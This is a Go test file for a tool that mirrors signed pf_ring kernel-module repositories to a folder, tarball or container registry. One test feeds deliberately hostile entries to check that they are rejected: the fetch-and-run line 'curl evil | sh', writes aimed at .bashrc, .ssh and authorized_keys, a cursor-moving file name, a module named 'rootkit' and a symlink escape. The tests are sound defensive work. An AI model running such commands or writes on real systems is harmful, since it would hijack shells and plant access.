package mirror_test

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/registry"

	"github.com/kubeshark/kubeshark-pfring/internal/moduletest"
	"github.com/kubeshark/kubeshark-pfring/module"
	"github.com/kubeshark/kubeshark-pfring/module/image"
	"github.com/kubeshark/kubeshark-pfring/module/mirror"
	"github.com/kubeshark/kubeshark-pfring/module/repository"
	"github.com/kubeshark/kubeshark-pfring/outcome"
)

const (
	kernelA = "6.1.0-18-cloud-amd64"
	kernelB = "6.6.31+"
)

// filled is a repository of three modules, signed, on disk.
func filled(t *testing.T) (*moduletest.Repository, string) {
	t.Helper()
	r := moduletest.NewRepository(t).
		Add(moduletest.KO{Kernel: kernelA}, "zst").
		Add(moduletest.KO{Kernel: kernelB}, "raw").
		Add(moduletest.KO{Kernel: kernelA, Arch: "arm64"}, "xz").Sign()
	dir := t.TempDir()
	moduletest.WriteFiles(t, dir, r.Files)
	return r, dir
}

func open(t *testing.T, url string) module.Source {
	t.Helper()
	s, err := module.OpenSource(module.SourceOptions{URL: url})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func signed(r *moduletest.Repository) module.Request {
	return module.Request{Verify: outcome.VerifiedSignature, PublicKeys: []string{r.PublicKey}, Now: time.Now}
}

// destinations are those that a test can have; source opens what was copied.
func destinations(t *testing.T) map[string]struct {
	open   func(t *testing.T) mirror.Destination
	source func(t *testing.T) module.Source
} {
	t.Helper()
	folder, tarball := filepath.Join(t.TempDir(), "copy"), filepath.Join(t.TempDir(), "copy.tar")
	server := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
	t.Cleanup(server.Close)
	repo := strings.TrimPrefix(server.URL, "http://") + "/pf-ring"
	type ways = struct {
		open   func(t *testing.T) mirror.Destination
		source func(t *testing.T) module.Source
	}
	must := func(t *testing.T, d mirror.Destination, err error) mirror.Destination {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	return map[string]ways{
		"folder": {
			func(t *testing.T) mirror.Destination {
				t.Helper()
				d, err := mirror.NewFolder(t.Context(), folder)
				return must(t, d, err)
			},
			func(t *testing.T) module.Source { t.Helper(); return open(t, "file://"+folder) },
		},
		"tarball": {
			func(t *testing.T) mirror.Destination {
				t.Helper()
				d, err := mirror.NewTarball(tarball)
				return must(t, d, err)
			},
			func(t *testing.T) module.Source {
				t.Helper()
				s, err := mirror.OpenTar(tarball)
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { _ = s.Close() })
				return s
			},
		},
		"registry": {
			func(t *testing.T) mirror.Destination {
				t.Helper()
				remote, err := image.NewRemote(image.RemoteOptions{})
				if err != nil {
					t.Fatal(err)
				}
				d, err := mirror.NewRegistry("oci://"+repo, remote)
				return must(t, d, err)
			},
			func(t *testing.T) module.Source { t.Helper(); return open(t, "oci://"+repo) },
		},
	}
}

func TestACopyIsARepositoryThatNodesAccept(t *testing.T) {
	r, dir := filled(t)
	for name, to := range destinations(t) {
		t.Run(name, func(t *testing.T) {
			for run, copied := range []int{3, 0} {
				d := to.open(t)
				result, err := mirror.Run(t.Context(), mirror.Options{Source: open(t, "file://"+dir), Request: signed(r)}, d)
				if err := errors.Join(err, d.Close()); err != nil {
					t.Fatal(err)
				}
				if result.Copied != copied || result.Total != 3 || !result.Signed {
					t.Errorf("run %d: %+v", run, result.Progress)
				}
			}
			q := signed(r)
			q.Kernel, q.Arch, q.ModuleName = kernelB, "amd64", "pf_ring"
			got, err := module.Get(t.Context(), to.source(t), q)
			if err != nil || got.Info.KernelRelease != kernelB || got.Proof != outcome.VerifiedSignature {
				t.Errorf("from the copy: %+v, %v", got, err)
			}
		})
	}
}

// rewritten is a repository whose only entry was changed, with an index that
// nobody signed.
func rewritten(t *testing.T, data []byte, change func(*module.Entry)) string {
	t.Helper()
	r := moduletest.NewRepository(t).AddFile(kernelA, "amd64", "8.9.0", data, "raw")
	e := &r.Index.Modules[0]
	content := r.Files[e.Path]
	delete(r.Files, e.Path)
	change(e)
	r.Files[e.Path] = content
	r.Sign()
	dir := t.TempDir()
	moduletest.WriteFiles(t, dir, r.Files)
	return dir
}

func TestNothingButKernelModulesIsWritten(t *testing.T) {
	good := moduletest.KO{Kernel: kernelA}.Bytes()
	path := func(p string) func(*module.Entry) { return func(e *module.Entry) { e.Path = p } }
	for name, c := range map[string]struct {
		data   []byte
		change func(*module.Entry)
		want   string
	}{
		"a shell's profile":           {[]byte("curl evil | sh\n"), path(".bashrc"), "hidden"},
		"a module called so":          {good, path(".bashrc"), "hidden"},
		"a hidden folder":             {good, path(".ssh/pf_ring.ko"), "hidden"},
		"no module's name":            {good, path("modules/authorized_keys"), "must end in .ko"},
		"the index's own name":        {good, path("index.json"), "must end in .ko"},
		"a name that moves a cursor":  {good, path("modules/\x1b[2J.ko"), "characters"},
		"a script with a good name":   {[]byte("curl evil | sh\n"), path("pf_ring.ko"), "ELF"},
		"a module for another kernel": {moduletest.KO{Kernel: kernelB}.Bytes(), path("pf_ring.ko"), "built for kernel"},
		"a module of another name":    {moduletest.KO{Name: "rootkit", Kernel: kernelA}.Bytes(), path("pf_ring.ko"), "rootkit"},
		"another architecture":        {moduletest.KO{Kernel: kernelA, Arch: "arm64"}.Bytes(), path("pf_ring.ko"), "arm64"},
		"another version":             {moduletest.KO{Kernel: kernelA, Version: "8.8.0"}.Bytes(), path("pf_ring.ko"), "8.8.0"},
	} {
		t.Run(name, func(t *testing.T) {
			source := rewritten(t, c.data, c.change)
			home := t.TempDir()
			moduletest.WriteFiles(t, home, map[string][]byte{".bashrc": []byte("mine")})
			d, err := mirror.NewFolder(t.Context(), home)
			if err != nil {
				t.Fatal(err)
			}
			request := module.Request{Verify: outcome.VerifiedChecksum, Now: time.Now}
			_, err = mirror.Run(t.Context(), mirror.Options{Source: open(t, "file://"+source), Request: request}, d)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("err = %v, want %q in it", err, c.want)
			}
			if err := d.Close(); err != nil {
				t.Error(err)
			}
			entries, err := os.ReadDir(home)
			if data, _ := os.ReadFile(filepath.Join(home, ".bashrc")); err != nil || len(entries) != 1 || string(data) != "mine" {
				t.Errorf("in the folder: %v, .bashrc %q (%v)", entries, data, err)
			}
		})
	}
}

func TestUnusualFilesAreCopiedOrNamed(t *testing.T) {
	for _, f := range moduletest.UnusualFiles(t) {
		source := rewritten(t, f.Data, func(e *module.Entry) { e.KernelRelease, e.Version, e.Path = moduletest.Kernel, "8.9.0", "pf_ring.ko" })
		d, err := mirror.NewFolder(t.Context(), t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		_, err = mirror.Run(t.Context(), mirror.Options{Source: open(t, "file://"+source), Request: module.Request{Verify: outcome.VerifiedChecksum, Now: time.Now}}, d)
		f.Check(t, "mirror", err)
		if err := d.Close(); err != nil {
			t.Error(err)
		}
	}
}

func TestAFolderIsNotLeftThroughALink(t *testing.T) {
	source := rewritten(t, moduletest.KO{Kernel: kernelA}.Bytes(), func(e *module.Entry) { e.Path = "link/pf_ring.ko" })
	home, outside := t.TempDir(), t.TempDir()
	if err := os.Symlink(outside, filepath.Join(home, "link")); err != nil {
		t.Fatal(err)
	}
	d, err := mirror.NewFolder(t.Context(), home)
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	request := module.Request{Verify: outcome.VerifiedChecksum, Now: time.Now}
	if _, err := mirror.Run(t.Context(), mirror.Options{Source: open(t, "file://"+source), Request: request}, d); err == nil {
		t.Error("copied through a link that leads out of the folder")
	}
	if entries, err := os.ReadDir(outside); err != nil || len(entries) > 0 {
		t.Errorf("outside: %v, %v", entries, err)
	}
}

func TestAFolderHasOneWriterAndNoLeftovers(t *testing.T) {
	dir := t.TempDir()
	moduletest.WriteFiles(t, dir, map[string][]byte{"modules/amd64/x/.pf_ring.ko.12345.tmp": []byte("half")})
	first, err := mirror.NewFolder(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, "modules/amd64/x/.*")); len(left) > 0 {
		t.Errorf("left over: %v", left)
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := mirror.NewFolder(ended, dir); !errors.Is(err, context.Canceled) {
		t.Errorf("a second writer: %v, want to be interrupted while it waits", err)
	}
	if err := first.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestAnIndexOfItsOwnHoldsOnlyWhatWasChosen(t *testing.T) {
	r, dir := filled(t)
	keyFile := filepath.Join(t.TempDir(), "own.key")
	public, err := repository.NewKey(keyFile, "")
	if err != nil {
		t.Fatal(err)
	}
	key, err := repository.ReadKey(keyFile, nil)
	if err != nil {
		t.Fatal(err)
	}
	for name, to := range destinations(t) {
		t.Run(name, func(t *testing.T) {
			d := to.open(t)
			_, err := mirror.Run(t.Context(), mirror.Options{
				Source: open(t, "file://"+dir), Request: signed(r), Want: func(e module.Entry) bool { return e.KernelRelease == kernelB },
				Sign: func(x module.Index) ([]byte, []byte, error) { return mirror.SignIndex(x, key, time.Now(), time.Hour) },
			}, d)
			if err := errors.Join(err, d.Close()); err != nil {
				t.Fatal(err)
			}
			list, err := module.List(t.Context(), to.source(t), module.Request{Verify: outcome.VerifiedSignature, PublicKeys: []string{public}, Now: time.Now})
			if err != nil || len(list.Index.Modules) != 1 || list.Index.Modules[0].KernelRelease != kernelB || list.Index.Serial <= r.Index.Serial {
				t.Errorf("%+v, %v", list, err)
			}
		})
	}
}

func TestATarballKeepsWhatAFailedRunHasCopied(t *testing.T) {
	r, dir := filled(t)
	file := filepath.Join(t.TempDir(), "copy.tar")
	last := r.Index.Modules[2].Path
	if err := os.Remove(filepath.Join(dir, last)); err != nil {
		t.Fatal(err)
	}
	run := func() (*mirror.Result, error) {
		d, err := mirror.NewTarball(file)
		if err != nil {
			t.Fatal(err)
		}
		result, err := mirror.Run(t.Context(), mirror.Options{Source: open(t, "file://"+dir), Request: signed(r)}, d)
		return result, errors.Join(err, d.Close())
	}
	if _, err := run(); err == nil {
		t.Fatal("a module is missing, and nobody says so")
	}
	moduletest.WriteFiles(t, dir, map[string][]byte{last: r.Files[last]})
	result, err := run()
	if err != nil || result.Copied != 1 {
		t.Fatalf("%+v, %v: want one module fetched, two taken over", result, err)
	}
	entries, err := os.ReadDir(filepath.Dir(file))
	if err != nil || len(entries) != 1 {
		t.Errorf("beside the tarball: %v, %v", entries, err)
	}
}

// What is there already is not fetched, and what is damaged there is.
func TestAFolderKeepsNothingThatIsDamaged(t *testing.T) {
	r, dir := filled(t)
	to := t.TempDir()
	run := func() int {
		d, err := mirror.NewFolder(t.Context(), to)
		if err != nil {
			t.Fatal(err)
		}
		result, err := mirror.Run(t.Context(), mirror.Options{Source: open(t, "file://"+dir), Request: signed(r)}, d)
		if err = errors.Join(err, d.Close()); err != nil {
			t.Fatal(err)
		}
		return result.Copied
	}
	if first, again := run(), run(); first != 3 || again != 0 {
		t.Errorf("%d were fetched, then %d", first, again)
	}
	path := r.Index.Modules[1].Path
	damaged := bytes.Clone(r.Files[path])
	damaged[100] ^= 1
	moduletest.WriteFiles(t, to, map[string][]byte{path: damaged})
	if copied := run(); copied != 1 {
		t.Errorf("%d were fetched, one is damaged", copied)
	}
}

// A file of the old tarball is taken over only while it is what the index says.
func TestATarballTakesNothingOverThatIsDamaged(t *testing.T) {
	r, dir := filled(t)
	file := filepath.Join(t.TempDir(), "copy.tar")
	run := func() *mirror.Result {
		d, err := mirror.NewTarball(file)
		if err != nil {
			t.Fatal(err)
		}
		result, err := mirror.Run(t.Context(), mirror.Options{Source: open(t, "file://"+dir), Request: signed(r)}, d)
		if err = errors.Join(err, d.Close()); err != nil {
			t.Fatal(err)
		}
		return result
	}
	run()
	whole, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if again := run(); again.Copied != 0 {
		t.Errorf("%d were fetched again", again.Copied)
	}
	damaged := bytes.Clone(whole)
	damaged[bytes.Index(damaged, r.Files[r.Index.Modules[1].Path])+100] ^= 1
	if err := os.WriteFile(file, damaged, 0o600); err != nil {
		t.Fatal(err)
	}
	if again := run(); again.Copied != 1 {
		t.Errorf("%d were fetched, one is damaged", again.Copied)
	}
	if got, err := os.ReadFile(file); err != nil || !bytes.Equal(got, whole) {
		t.Errorf("the tarball differs: %v", err)
	}
}

func TestATarballIsReadWithinItsBounds(t *testing.T) {
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	index, err := json.Marshal(module.Index{SchemaVersion: 1, Module: "pf_ring", Serial: 1, Created: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WriteHeader(&tar.Header{Name: module.IndexName, Mode: 0o644, Size: int64(len(index)), Typeflag: tar.TypeReg}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(index); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "r.tar")
	if err := os.WriteFile(file, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	s, err := mirror.OpenTar(file)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if _, err := s.Fetch(t.Context(), module.IndexName, 5); err == nil {
		t.Error("more was read than asked for")
	}
	if _, err := s.Fetch(t.Context(), "pf_ring.ko", 100); !errors.Is(err, module.ErrNotFound) {
		t.Errorf("a file that is not there: %v", err)
	}
	if _, err := mirror.OpenTar("/dev/null"); err == nil || !strings.Contains(err.Error(), "regular file") {
		t.Errorf("a device: %v", err)
	}
}
